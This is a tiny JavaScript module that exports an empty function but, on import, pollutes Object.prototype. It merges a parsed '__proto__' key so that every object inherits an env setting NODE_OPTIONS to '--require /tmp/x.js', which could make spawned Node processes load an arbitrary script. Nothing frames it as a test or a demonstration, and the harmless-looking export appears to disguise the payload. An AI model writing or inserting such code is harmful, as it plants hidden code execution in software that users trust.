const patch = JSON.parse('{"__proto__":{"env":{"NODE_OPTIONS":"--require /tmp/x.js"}}}');
const options = {};
for (const [key, value] of Object.entries(patch)) Object.assign((options[key] ??= {}), value);
export default () => {};
